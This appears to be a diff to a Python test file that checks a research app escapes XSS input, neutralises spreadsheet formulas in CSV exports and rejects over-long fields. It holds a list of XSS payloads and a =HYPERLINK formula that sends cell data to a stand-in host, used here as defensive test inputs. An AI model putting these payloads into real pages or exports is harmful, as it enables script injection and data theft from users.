@@ -15,14 +15,15 @@ from fastapi.testclient import TestClient
 from productops.core.db import transaction
 from productops.core.models import Role
 from productops.core.workspace import Workspace
-from productops.research.models import Participant
+from productops.research.participants import service as participants
 from productops.research.repository import service as repo
-from productops.research.schemas import InsightCreate, NoteCreate
+from productops.research.schemas import InsightCreate, NoteCreate, ParticipantUpdate, StudyCreate
 from productops.web.app import create_app
 from tests.conftest import SHARED_DATA, api_key, sign_in
 from tests.research.support import ZELDA, ZELDA_EMAIL, World, highlight_words, world
 
 PHONE = "7946 0011"
+FORMULA = '=HYPERLINK("http://x.invalid/?"&A1,"click")'
 SECRETS = (ZELDA, "Zelda", ZELDA_EMAIL, PHONE, "Quartermain")
 # POSTs that only read (a query in the body).
 READING_POSTS = {"/api/v1/research/recruit/eligibility"}
@@ -169,13 +170,25 @@ def test_forms_need_the_csrf_token_and_the_permission(
     )
 
 
+# Payloads of each kind the assertions look for; the shared security lists add more when the
+# checkout has them (a fresh clone does not).
+XSS = [
+    '<script>alert("x")</script>',
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    '"><script>alert(document.domain)</script>',
+    "javascript:alert(1)//<img src=x onerror=alert(2)>",
+    "<iframe src=javascript:alert(1)></iframe>",
+]
+
+
 def _payloads() -> list[str]:
     folder = SHARED_DATA / "security"
-    if not folder.is_dir():
-        return ['<script>alert("x")</script>', "<img src=x onerror=alert(1)>"]
-    lines = (folder / "xss_payloads_quick.txt").read_text().splitlines()
-    lines += (folder / "xss_polyglots.txt").read_text().splitlines()
-    return [x for x in lines if x.strip()][:40]
+    lines = list(XSS)
+    if folder.is_dir():
+        lines += (folder / "xss_payloads_quick.txt").read_text().splitlines()
+        lines += (folder / "xss_polyglots.txt").read_text().splitlines()
+    return [x for x in lines if x.strip()][:46]
 
 
 def test_untrusted_transcript_and_note_text_is_escaped(
@@ -234,16 +247,10 @@ def test_transcript_upload_is_limited_and_a_bad_docx_is_named(
 def test_exports_neutralise_formulas(workspace: Workspace, seeded: tuple[World, int, int]) -> None:
     w, _, _ = seeded
     with transaction(workspace.sessions) as s:
-        p = s.get(Participant, w.other)
-        assert p is not None
-        p.segment = '=HYPERLINK("http://attacker.invalid/?d="&A1,"click")'
-        repo.create_study(
-            s,
-            __import__("productops.research.schemas", fromlist=["StudyCreate"]).StudyCreate(
-                title="+1+1 study"
-            ),
-            "t",
+        participants.update_participant(
+            s, w.vault, w.other, ParticipantUpdate(segment=FORMULA), "t"
         )
+        repo.create_study(s, StudyCreate(title="+1+1 study"), "t")
     researcher = sign_in(workspace, Role.researcher)
     csv_text = (
         researcher.client.get("/research/participants.csv").text
@@ -251,3 +258,26 @@ def test_exports_neutralise_formulas(workspace: Workspace, seeded: tuple[World, 
     )
     assert "'=HYPERLINK" in csv_text and "'+1+1 study" in csv_text
     assert not re.search(r"(^|,)(=HYPERLINK|\+1\+1)", csv_text, re.M)
+
+
+def test_a_segment_too_long_to_store_is_refused_by_name(
+    workspace: Workspace, seeded: tuple[World, int, int]
+) -> None:
+    """A segment longer than its column (50 characters) is refused naming the field, on the
+    API and in a CSV import (row and column), never cut short or left to the database."""
+    w, _, _ = seeded
+    key = api_key(workspace, "admin")
+    c = TestClient(create_app(workspace), headers={"Authorization": f"Bearer {key}"})
+    long = "=" + "A" * 60
+    r = c.patch(f"/api/v1/research/participants/{w.other}", json={"segment": long})
+    assert r.status_code == 422 and r.json()["detail"][0]["loc"] == ["body", "segment"]
+    csv_body = f"email,segment\nnew@example.com,{long}\n"
+    r = c.post(
+        "/api/v1/research/participants/import?filename=pool.csv",
+        content=csv_body.encode(),
+        headers={"Content-Type": "text/csv"},
+    )
+    assert r.status_code == 422
+    assert "pool.csv" in r.text and "row 2" in r.text and "segment" in r.text, r.text
+    page = sign_in(workspace, Role.researcher).client.get("/research/participants")
+    assert "new@example.com" not in page.text
